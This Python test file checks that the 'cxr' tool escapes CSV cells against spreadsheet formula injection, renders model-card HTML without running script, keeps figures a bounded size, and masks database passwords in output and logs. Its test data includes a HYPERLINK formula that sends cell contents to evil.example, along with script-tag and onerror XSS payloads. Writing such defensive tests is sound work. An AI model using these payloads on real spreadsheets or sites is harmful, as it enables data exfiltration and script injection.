"""Hostile strings where they land (issue 22): CSV cells a spreadsheet would run, the model
card rendered as HTML (markdown-it, the CommonMark reference port, with raw HTML allowed as
most renderers do) and opened in a real Chromium, figures of a 20,000-character value, and
database passwords in messages and logs.

References: Python's csv module, markdown-it-py and html.parser, PIL for figure sizes,
Chromium for what a page runs."""

from __future__ import annotations

import csv
import io
import logging
import shutil
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import CHROMIUM, CHROMIUM_ARGS
from markdown_it import MarkdownIt
from PIL import Image
from typer.testing import CliRunner

from cxr.cli import app
from cxr.model.card import ModelCard, TrainingData, render_card
from cxr.safety import (
    FORMULA_START,
    MaskSecrets,
    figure_text,
    masked,
    restored_cell,
    restored_frame,
    spreadsheet_cell,
)
from cxr.utils import atomic_write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    "'=already quoted",
    "''",
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "a|b|c",
    "back\\slash",
    "Épanchement pleural 胸水",
    "x" * 20_000,
]


def test_no_csv_cell_starts_a_formula_and_cxr_reads_its_own_tables_back(tmp_path):
    frame = pd.DataFrame({"Patient ID": HOSTILE, "=cmd": np.linspace(-1, 1, len(HOSTILE)), "n": -1})
    atomic_write_csv(frame, tmp_path / "table.csv")
    with open(tmp_path / "table.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_START:
                float(cell)  # only a number may start with - or +
    assert rows[0][1] == "'=cmd"
    back = restored_frame(pd.read_csv(tmp_path / "table.csv", dtype={"Patient ID": str}))
    assert back["Patient ID"].tolist() == HOSTILE
    assert list(back.columns) == ["Patient ID", "=cmd", "n"]
    np.testing.assert_array_equal(back["=cmd"], frame["=cmd"])
    for text in [*HOSTILE, "'x", "'", "plain"]:
        assert restored_cell(spreadsheet_cell(text)) == text


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.rows: list[int] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append(0)
        elif tag in ("td", "th"):
            self.rows[-1] += 1


def hostile_card() -> tuple[str, list[str]]:
    labels = [text[:200] for text in HOSTILE]
    card = ModelCard(
        cxr_version="0.1.0",
        training_data=TrainingData(
            origin="other",
            synthetic=False,
            description=HOSTILE[8],
            images={"train": 10, HOSTILE[9]: 5},
            patients={"train": 4},
            prevalence={label: 0.5 for label in labels},
            demographics={"sex": {HOSTILE[8]: 3, "F": 2}},
        ),
        subgroups={
            "rows": [
                {
                    "grouping": HOSTILE[10],
                    "group": g,
                    "images": 3,
                    "auroc_mean": 0.5,
                    "auroc_mean_ci": [0.4, 0.6],
                    "underdiagnosis": 0.1,
                }
                for g in HOSTILE
            ],
            "flags": [],
            "adjustment": "Holm",
            "alpha": 0.05,
            "comparisons": 0,
        },
    )
    return render_card(card, labels), labels


def test_the_model_card_renders_hostile_names_as_text_with_its_tables_whole():
    markdown, _ = hostile_card()
    page = MarkdownIt("commonmark").enable("table").render(markdown)
    parser = _Tags()
    parser.feed(page)
    assert not [t for t, _ in parser.tags if t in ("script", "img", "iframe", "svg")]
    assert not [a for _, attrs in parser.tags for a in attrs if a.startswith("on")]
    # every row of the subgroup table has its five cells, every other table its own count
    assert parser.rows.count(5) == len(HOSTILE) + 1
    assert "a|b|c" in page and "<script>" not in page and "&lt;script&gt;" in page
    assert "Épanchement pleural 胸水" in page


@pytest.mark.slow
def test_the_rendered_card_runs_no_script_in_chromium(tmp_path):
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).is_file() or shutil.which("chromium"), "apt-get install chromium"
    markdown, _ = hostile_card()
    body = MarkdownIt("commonmark").enable("table").render(markdown)
    page_file = tmp_path / "card.html"
    page_file.write_text(f"<!doctype html><title>card</title>{body}", encoding="utf-8")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(page_file.as_uri())
            page.wait_for_load_state("load")
            assert page.title() == "card"
            assert page.locator("script, img, iframe").count() == 0
            assert "<script>" in page.inner_text("body")  # shown as text
            assert not dialogs
        finally:
            browser.close()


@pytest.mark.slow
def test_a_20000_character_subgroup_value_keeps_the_figure_its_size():
    from cxr.report.subgroups import subgroup_figure

    def group(name):
        return {"name": name, "images": 30, "auroc_mean": 0.7, "auroc_mean_ci": [0.6, 0.8],
                "underdiagnosis": {"rate": 0.1, "ci": [0.05, 0.2]}, "vs_rest": {}}  # fmt: skip

    subgroups = {
        "groupings": [{"title": "site " + "y" * 20_000, "groups": [group("x" * 20_000)]}],
        "bootstrap": {"confidence": 0.95},
        "test": {"alpha": 0.05, "comparisons": 0},
    }
    png = subgroup_figure(subgroups)
    with Image.open(io.BytesIO(png)) as image:
        assert image.width <= 1400 and image.height <= 400, image.size
    assert len(figure_text("x" * 20_000)) == 40 and figure_text("x" * 20_000).endswith("…")
    # and a figure whose content is large by itself (300 subgroups) is drawn smaller
    many = {**subgroups, "groupings": [{"title": "site", "groups": [group(str(n)) for n in
                                                                 range(300)]}]}  # fmt: skip
    with Image.open(io.BytesIO(subgroup_figure(many))) as image:
        assert max(image.size) <= 4000, image.size


SECRET = "S3CRET-pw"
URL = f"postgresql://reader:{SECRET}@127.0.0.1:1/results"


def test_a_database_password_appears_in_no_message(caplog):
    result = CliRunner().invoke(app, ["results", URL])
    assert result.exit_code != 0
    assert SECRET not in result.output and "reader:***@127.0.0.1" in result.output
    for text in (URL, f"host=db password={SECRET} user=u", f"password='{SECRET}'"):
        assert SECRET not in masked(text)
    logger = logging.getLogger("cxr.test-secrets")
    handler = logging.StreamHandler(io.StringIO())
    handler.addFilter(MaskSecrets())
    logger.addHandler(handler)
    try:
        logger.warning("cannot reach %s", URL)
    finally:
        logger.removeHandler(handler)
    assert SECRET not in handler.stream.getvalue() and "cannot reach" in handler.stream.getvalue()


def test_a_password_comes_from_a_file_named_by_the_environment(tmp_path, monkeypatch):
    import sqlalchemy as sa

    from cxr.results.store import PASSWORD_FILE_ENV, _with_password

    (tmp_path / "pw").write_text(SECRET + "\n")
    monkeypatch.setenv(PASSWORD_FILE_ENV, str(tmp_path / "pw"))
    url = _with_password(sa.make_url("postgresql+psycopg://reader@127.0.0.1:1/results"))
    assert url.password == SECRET
    assert SECRET not in url.render_as_string(hide_password=True)
